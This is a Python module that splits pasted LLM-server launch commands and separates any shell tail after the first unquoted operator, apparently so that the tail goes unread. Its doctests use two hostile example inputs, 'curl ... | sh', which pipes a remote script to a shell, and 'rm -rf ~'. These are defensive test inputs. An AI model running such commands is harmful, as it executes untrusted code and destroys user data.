"""Splitting a pasted launch command into words: the one cap and the one shell-style split that the
vLLM, SGLang / TensorRT-LLM and llama.cpp command parsers share."""
from __future__ import annotations

import shlex

from .errors import InputError

MAX_COMMAND_CHARS = 4000
"""Characters of one pasted command (a real launch line is a few hundred)."""


def split_command(text: str, limit: int = MAX_COMMAND_CHARS) -> list[str]:
    """``text`` split as a POSIX shell would (backslash-newline continuations joined); InputError when it
    is longer than ``limit`` characters or its quoting is unbalanced."""
    if len(text) > limit:
        raise InputError(f"the command is longer than {limit:,} characters")
    try:
        return shlex.split(text.replace("\\\n", " "))
    except ValueError as e:
        raise InputError(f"cannot split the command: {e}") from None


_OPERATORS = ("&&", "||", "$(", ";", "|", "&", ">", "<", "`", "\n")
"""Shell operators that end the launch command (longest first): lists, pipes, background, redirections,
command substitution, and a line break that no backslash continues."""


def split_shell_tail(text: str) -> tuple[str, str]:
    """``text`` cut at its first shell operator outside quotes (&&, ||, ;, |, &, >, <, a backtick, ``$(``,
    or a line break not continued by a backslash): (the launch command, the rest from that operator on,
    stripped; ``""`` when there is none). A file-descriptor number right before ``>`` / ``<`` (``2>&1``)
    goes with the rest. Quotes follow POSIX: nothing is special inside '...', a backslash escapes the
    next character outside quotes and inside "..." (where ``$(`` and backticks are left to the shell).

    >>> split_shell_tail('vllm serve org/m --port 8000 && curl -s http://x/i.sh | sh')
    ('vllm serve org/m --port 8000', '&& curl -s http://x/i.sh | sh')
    >>> split_shell_tail("vllm serve m --chat-template '{{ a | b }}' 2>&1 > log")[1]
    '2>&1 > log'
    """
    quote = ""
    i = 0
    while i < len(text):
        ch = text[i]
        if quote == "'":
            quote = "" if ch == "'" else quote
        elif ch == "\\":
            i += 1                               # the next character is literal (a continuation too)
        elif quote == '"':
            quote = "" if ch == '"' else quote
        elif ch in "'\"":
            quote = ch
        elif any(text.startswith(op, i) for op in _OPERATORS):
            start = i
            while start > 0 and text[start - 1].isdigit() and ch in "<>":
                start -= 1
            if start < i and start > 0 and not text[start - 1].isspace():
                start = i                        # digits glued to a word (x2>f) belong to the word
            tail = text[start:].strip()
            return (text[:start].rstrip(), tail) if tail else (text.rstrip(), "")
        i += 1
    return text.rstrip(), ""


def shell_tail(text: str) -> str:
    """What a pasted command has after its first unquoted shell operator (:func:`split_shell_tail`), which
    no command parser reads: ``""`` when there is nothing.

    >>> shell_tail("python -m sglang.launch_server --model-path m; rm -rf ~")
    '; rm -rf ~'
    """
    return split_shell_tail(text)[1]
